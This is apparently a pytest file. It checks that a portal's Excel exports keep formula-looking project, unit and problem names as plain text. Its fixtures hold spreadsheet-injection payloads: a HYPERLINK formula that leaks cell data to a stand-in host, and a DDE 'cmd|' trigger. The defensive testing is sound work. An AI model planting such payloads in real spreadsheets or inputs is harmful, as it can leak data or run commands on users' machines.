"""Every Excel export writes a text that looks like a formula as text (no formula injection).

A project, unit or problem named "=HYPERLINK(…)" must reach Excel as the typed text, never as a
live formula: each export is downloaded as a user does and its cells are read back.
"""
from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal.models import Unit, UnitTarget
from portal.timeutil import today

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
OTHER_TRIGGERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]


@pytest.fixture
def evil(app, org, make_project, login):
    """A unit and a project named like formulas, with a problem whose text is one too."""
    with app.app_context():
        Unit.update(name=EVIL).where(Unit.id == org.units["county_a"].id).execute()
        UnitTarget.create(year=today().year, unit=org.units["county_a"], figure="signed_count", value=Decimal(4))
        project = make_project(name=EVIL, unit="county_a", stage="signed",
                               signed_on=today() - dt.timedelta(days=3), responsible_person=OTHER_TRIGGERS[0])
        for number, name in enumerate(OTHER_TRIGGERS[1:]):
            make_project(name=name, unit="county_a", stage="signed", signed_on=today() - dt.timedelta(days=3))
        deadline = (today() + dt.timedelta(days=10)).isoformat()
    client = login("bureau")
    response = client.post_form(f"/projects/{project.id}/problems/new", {
        "category": "land", "description": EVIL, "assigned_unit": str(org.units["department"].id),
        "deadline": deadline, "priority": "normal"})
    assert response.status_code == 303
    return client


def _cells(response):
    assert response.status_code == 200, response.status_code
    book = load_workbook(io.BytesIO(response.data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_texts_stay_text(cells, expected):
    typed = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in expected:
        assert text in typed, f"{text!r} missing from the export"
    for cell in cells:
        assert cell.data_type != "f", f"live formula {cell.value!r} at {cell.coordinate}"
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t":
            assert cell.data_type == "s" and cell.quotePrefix, cell.value


@pytest.mark.parametrize("url, expected", [
    ("/projects?format=xlsx", [EVIL, *OTHER_TRIGGERS]),
    ("/lists/signed?format=xlsx", [EVIL, *OTHER_TRIGGERS]),
    ("/problems?format=xlsx", [EVIL]),
    ("/scheduling?format=xlsx", [EVIL]),
    ("/dashboard?format=xlsx", [EVIL]),
    ("/ranking?format=xlsx", [EVIL]),
    ("/ranking/targets/template.xlsx", [EVIL]),
])
def test_export_keeps_formula_like_text_as_text(evil, login, url, expected):
    _assert_texts_stay_text(_cells(evil.get(url)), expected)
